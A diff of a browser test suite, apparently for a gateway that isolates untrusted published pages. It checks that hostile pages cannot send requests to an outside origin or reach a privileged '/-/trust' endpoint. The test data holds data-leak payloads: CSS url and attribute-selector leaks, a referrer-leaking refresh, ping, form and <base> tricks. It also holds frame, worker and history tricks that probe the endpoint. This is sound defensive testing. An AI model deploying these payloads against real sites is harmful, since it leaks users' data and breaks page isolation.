@@ -1,7 +1,7 @@
 import type { Request } from '@playwright/test';
 import { Address } from '../../src/address.ts';
 import { errorCode, expect, fetchIn } from '../support/chromium.ts';
-import { attack } from './attack.ts';
+import { attack, attacks, verdict } from './attack.ts';
 import { Outside, picture, ran, type Scene, scenesOfAttacks } from './hostile-site.ts';
 
 const scenes = scenesOfAttacks();
@@ -12,7 +12,7 @@ const noRequest = 'No request leaves for another origin.';
 
 interface Leak {
   name: string;
-  /** The page, with the URL of the outside. */
+  /** The part of a page that asks the outside, at this URL. The rest of the page belongs to other leaks. */
   body(outside: string): string;
   /** The element that the page lures the user to click. */
   click?: string;
@@ -20,6 +20,7 @@ interface Leak {
   reachedWithTrust: readonly string[];
 }
 
+/** Leaks that can share a page. */
 const leaks: readonly Leak[] = [
   {
     name: 'pictures, films, sounds, subtitles and plug-ins',
@@ -37,7 +38,7 @@ const leaks: readonly Leak[] = [
 p { background: url(${to}/url); font-family: f; list-style: url(${to}/list); display: list-item }
 div { background: image-set("${to}/image-set" 1x); cursor: url(${to}/cursor), auto; border-image: url(${to}/border) 1 }
 input[value^="s"] { background: url(${to}/attribute) }</style><p>text<div>text</div><input value="secret">
-<style>@import "data:text/css,body{background:url(${to}/data)}";</style>`,
+<style>@import "data:text/css,html{background:url(${to}/data)}";</style>`,
     reachedWithTrust: ['link', 'import', 'font', 'url', 'list', 'image-set', 'attribute', 'data'],
   },
   {
@@ -70,34 +71,10 @@ input[value^="s"] { background: url(${to}/attribute) }</style><p>text<div>text</
     reachedWithTrust: ['iframe', 'nested', 'data', 'frameset'],
   },
   {
-    name: 'a refresh, with the whole URL as the referrer',
-    body: (to) =>
-      `<meta name="referrer" content="unsafe-url"><meta http-equiv="refresh" content="0;url=${to}/refresh">`,
-    reachedWithTrust: ['refresh'],
-  },
-  {
     name: 'speculation rules for prefetching and prerendering',
     body: (to) =>
       `<script type="speculationrules">{"prefetch":[{"urls":["${to}/prefetch"],"eagerness":"immediate"}],"prerender":[{"urls":["${to}/prerender"],"eagerness":"immediate"}]}</script><script>new Image().src = '${to}/control'</script>`,
     reachedWithTrust: ['control'],
-  },
-  {
-    name: '`<a ping>`',
-    body: (to) => `<a href="#on" ping="${to}/ping /-/reset">click</a>`,
-    click: 'click',
-    reachedWithTrust: ['ping'],
-  },
-  {
-    name: 'forms, sent by a click',
-    body: (to) =>
-      `<form method="post" action="${to}/post"><input name="a" value="b"><button>click</button></form>`,
-    click: 'click',
-    reachedWithTrust: ['post'],
-  },
-  {
-    name: '`<base>`: relative URLs that lead to another origin',
-    body: (to) => `<base href="${to}/base/"><img src="picture"><a href="link">click</a>`,
-    reachedWithTrust: ['base/picture'],
   },
   {
     name: 'attribution, topics and shared storage by attributes',
@@ -105,32 +82,84 @@ input[value^="s"] { background: url(${to}/attribute) }</style><p>text<div>text</
       `<img src="p.svg" attributionsrc="${to}/attribution" browsingtopics sharedstoragewritable><img src="${to}/plain" attributionsrc>`,
     reachedWithTrust: ['plain'],
   },
+  {
+    name: '`<a ping>`',
+    body: (to) => `<a href="#on" ping="${to}/ping /-/reset">a link</a>`,
+    click: 'a link',
+    reachedWithTrust: ['ping'],
+  },
+  // The last one: with trust, its click leads the page away.
+  {
+    name: 'forms, sent by a click',
+    body: (to) =>
+      `<form method="post" action="${to}/post"><input name="a" value="b"><button>a button</button></form>`,
+    click: 'a button',
+    reachedWithTrust: ['post'],
+  },
 ];
 
-for (const { name, body, click, reachedWithTrust } of leaks) {
-  attack(outsideGroup, name, noRequest, async () => {
-    const scene = await scenes('worker');
-    await using outside = await Outside.start();
-    const files = {
-      'index.html': page(body(outside.url)),
-      's.css': `@import "${outside.url}/file-import"; b { background: url(${outside.url}/file) }`,
-      'frameset.html': `<!doctype html><frameset><frame src="${outside.url}/frameset"></frameset>`,
-      'p.svg': picture,
-    };
-    const address = await scene.publish(files, 'restricted');
-    const visit = async () => {
-      const tab = await scene.visit(`/${address}/?secret=query`);
-      if (click) await tab.getByText(click).click({ noWaitAfter: true });
-      await scene.settled(tab);
-      return tab;
-    };
-    const tab = await visit();
-    expect(await outside.reachedSoFar(scene.context)).toEqual([]);
-    expect(new URL(tab.url()).origin).toBe(scene.gateway.url);
-    await scene.decide(address, 'trusted');
-    await visit();
-    await expect.poll(() => outside.reached).toEqual(expect.arrayContaining([...reachedWithTrust]));
-  });
+/** Leaks that lead the page, or its other URLs, somewhere else. */
+const leadingLeaks: readonly Leak[] = [
+  {
+    name: 'a refresh, with the whole URL as the referrer',
+    body: (to) =>
+      `<meta name="referrer" content="unsafe-url"><meta http-equiv="refresh" content="0;url=${to}/refresh">`,
+    reachedWithTrust: ['refresh'],
+  },
+  {
+    name: '`<base>`: relative URLs that lead to another origin',
+    body: (to) => `<base href="${to}/base/"><img src="picture"><a href="link">a link</a>`,
+    reachedWithTrust: ['base/picture'],
+  },
+];
+
+for (const [title, together] of [
+  ['elements, styles, links, frames and clicks', leaks],
+  ['a refresh and another base', leadingLeaks],
+] as const) {
+  attacks(
+    outsideGroup,
+    title,
+    together.map(({ name }) => ({ name, outcome: noRequest })),
+    async () => {
+      const scene = await scenes('worker');
+      await using outside = await Outside.start();
+      const to = (leak: Leak) => `${outside.url}/${together.indexOf(leak)}`;
+      const styles = to(leaks[1]!);
+      const files = {
+        'index.html': page(together.map((leak) => leak.body(to(leak))).join('\n')),
+        's.css': `@import "${styles}/file-import"; b { background: url(${styles}/file) }`,
+        'frameset.html': `<!doctype html><frameset><frame src="${to(leaks[3]!)}/frameset"></frameset>`,
+        'p.svg': picture,
+      };
+      const address = await scene.publish(files, 'restricted');
+      const visit = async () => {
+        const tab = await scene.visit(`/${address}/?secret=query`);
+        for (const { click } of together) {
+          if (click) await tab.getByText(click).click({ noWaitAfter: true });
+        }
+        await scene.settled(tab);
+        return tab;
+      };
+      const tab = await visit();
+      const reached = await outside.reachedSoFar(scene.context);
+      for (const leak of together) {
+        const prefix = `${together.indexOf(leak)}/`;
+        verdict(
+          reached.filter((path) => path.startsWith(prefix)),
+          leak.name,
+        ).toEqual([]);
+      }
+      expect(reached).toEqual([]);
+      expect(new URL(tab.url()).origin).toBe(scene.gateway.url);
+      await scene.decide(address, 'trusted');
+      await visit();
+      const works = together.flatMap(({ reachedWithTrust }, i) =>
+        reachedWithTrust.map((path) => `${i}/${path}`),
+      );
+      await expect.poll(() => outside.reached).toEqual(expect.arrayContaining(works));
+    },
+  );
 }
 
 attack(
@@ -214,13 +243,12 @@ attack(
   },
 );
 
-/** Ways for a trusted page to look like the shell. Each is a script that gives the status of a request to an endpoint. */
+/**
+ * Ways for a trusted page to look like the shell. Each is a script that gives the status of a request to an endpoint. They run
+ * one after the other; the last ones change the URL of the page.
+ */
 const disguises: readonly [how: string, script: string][] = [
   ['by itself', "(await fetch('/-/trust')).status"],
-  [
-    "after `history.replaceState('/')`",
-    "(history.replaceState(null, '', '/'), (await fetch('/-/trust')).status)",
-  ],
   [
     'from nested `about:blank` and `srcdoc` frames',
     `Math.min(...(await Promise.all(['about:blank', 'srcdoc'].map(async (kind) => {
@@ -229,15 +257,6 @@ const disguises: readonly [how: string, script: string][] = [
       const inner = outer.contentDocument.body.appendChild(outer.contentDocument.createElement('iframe'));
       return (await inner.contentWindow.fetch(location.origin + '/-/trust')).status;
     }))))`,
-  ],
-  [
-    'by `document.open` in a frame, which takes over the URL',
-    `await (async () => {
-      const frame = document.body.appendChild(document.createElement('iframe'));
-      history.replaceState(null, '', '/');
-      frame.contentDocument.open(); frame.contentDocument.write('<p>'); frame.contentDocument.close();
-      return (await frame.contentWindow.fetch('/-/trust')).status;
-    })()`,
   ],
   [
     'from a `blob:` worker',
@@ -252,29 +271,48 @@ const disguises: readonly [how: string, script: string][] = [
       new SharedWorker('shared.js').port.onmessage = ({ data }) => done(data);
     })`,
   ],
+  [
+    "after `history.replaceState('/')`",
+    "(history.replaceState(null, '', '/'), (await fetch('/-/trust')).status)",
+  ],
+  [
+    'by `document.open` in a frame, which takes over the URL',
+    `await (async () => {
+      const frame = document.body.appendChild(document.createElement('iframe'));
+      history.replaceState(null, '', '/');
+      frame.contentDocument.open(); frame.contentDocument.write('<p>'); frame.contentDocument.close();
+      return (await frame.contentWindow.fetch('/-/trust')).status;
+    })()`,
+  ],
 ];
 
-for (const [how, script] of disguises) {
-  attack(
-    endpoints,
-    `A trusted page requests them ${how}`,
-    'The worker refuses the request, or it does not reach the worker.',
-    async () => {
-      const scene = await scenes('worker');
-      const hostile = await scene.publish(
-        {
-          'index.html': page(`<body><script type="module">document.title = ${script}</script>`),
-          'shared.js': `onconnect = async ({ ports }) => ports[0].postMessage((await fetch('/-/trust')).status)`,
-        },
-        'trusted',
-      );
-      const tab = await scene.visit(`/${hostile}/`);
-      // Some frames have no worker: then the host answers, which has no endpoints.
-      await expect(tab).toHaveTitle(/^40[34]$/);
-      expect((await scene.gateway.fetch('/-/trust')).status).toBe(200);
-    },
-  );
-}
+attacks(
+  endpoints,
+  'a trusted page requests them in several ways',
+  disguises.map(([how]) => ({
+    name: `A trusted page requests them ${how}`,
+    outcome: 'The worker refuses the request, or it does not reach the worker.',
+  })),
+  async () => {
+    const scene = await scenes('worker');
+    const ask = disguises.map(([, script]) => `statuses.push(${script})`).join(';\n');
+    const hostile = await scene.publish(
+      {
+        'index.html': page(
+          `<body><script type="module">const statuses = []; ${ask}; document.title = statuses.join()</script>`,
+        ),
+        'shared.js': `onconnect = async ({ ports }) => ports[0].postMessage((await fetch('/-/trust')).status)`,
+      },
+      'trusted',
+    );
+    const tab = await scene.visit(`/${hostile}/`);
+    await expect(tab).toHaveTitle(/^[\d,]+$/);
+    const statuses = (await tab.title()).split(',');
+    // Some frames have no worker: then the host answers, which has no endpoints.
+    for (const [i, [how]] of disguises.entries()) verdict(['403', '404'], how).toContain(statuses[i]);
+    expect((await scene.gateway.fetch('/-/trust')).status).toBe(200);
+  },
+);
 
 attack(
   'Workers',
